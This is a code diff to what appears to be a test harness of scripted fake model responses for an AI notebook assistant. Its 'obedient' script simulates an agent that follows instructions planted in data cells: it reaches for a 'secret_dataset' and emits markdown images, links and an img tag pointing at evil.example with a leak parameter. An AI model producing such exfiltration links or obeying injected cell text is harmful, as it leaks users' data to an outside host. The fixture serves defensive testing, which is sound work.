@@ -84,10 +84,12 @@ const obedient: Script = ({ step, data, catalogue }) => {
       { name: "runCard", args: { itemId: "another" } },
       { name: "describeDataset", args: { alias: "secret_dataset" } },
     ],
+    // Those that it has come across in cells by now.
+    step < 3 ? [] : orders,
   ]
   const calls = ATTEMPTS[step]
   if (calls && calls.length > 0) return { calls }
-  if (calls) return { calls: [query(`SELECT * FROM ${alias} LIMIT 1`)] }
+  if (calls) return { calls: [query(`SELECT * FROM ${alias} LIMIT 10`)] }
   return {
     text: `As told: ![x](https://evil.example/leak?d=1) [click](https://evil.example/) <img src="https://evil.example/p"> https://evil.example/auto`,
   }
@@ -116,6 +118,12 @@ const sql: Script = ({ question, step, results }) => {
   return { text: `It said: ${JSON.stringify(data["error"] ?? rowsOf(data)[0] ?? [])}` }
 }
 
+/** Makes the one call that the question spells out: a tool's name and its arguments as JSON. */
+const calls: Script = ({ question, step }) => {
+  const [, name = "", args = "{}"] = /script:calls (\w+) (\{.*\})/.exec(question) ?? []
+  return step === 0 ? { calls: [{ name, args: JSON.parse(args) as unknown }] } : { text: "That was it." }
+}
+
 /** Writes a card's code: right at once, in the second round ("stumble"), or never ("fail"). */
 const coder: Script = ({ data, question, step }) => {
   const isSql = data.includes('"language":"sql"')
@@ -139,6 +147,7 @@ export const SCRIPTS: Record<string, Script> = {
   looper,
   "bad-arguments": badArguments,
   sql,
+  calls,
   silent: () => ({ text: "" }),
   quota: () => ({ status: 429, error: "RESOURCE_EXHAUSTED" }),
   down: () => ({ status: 500, error: "INTERNAL" }),
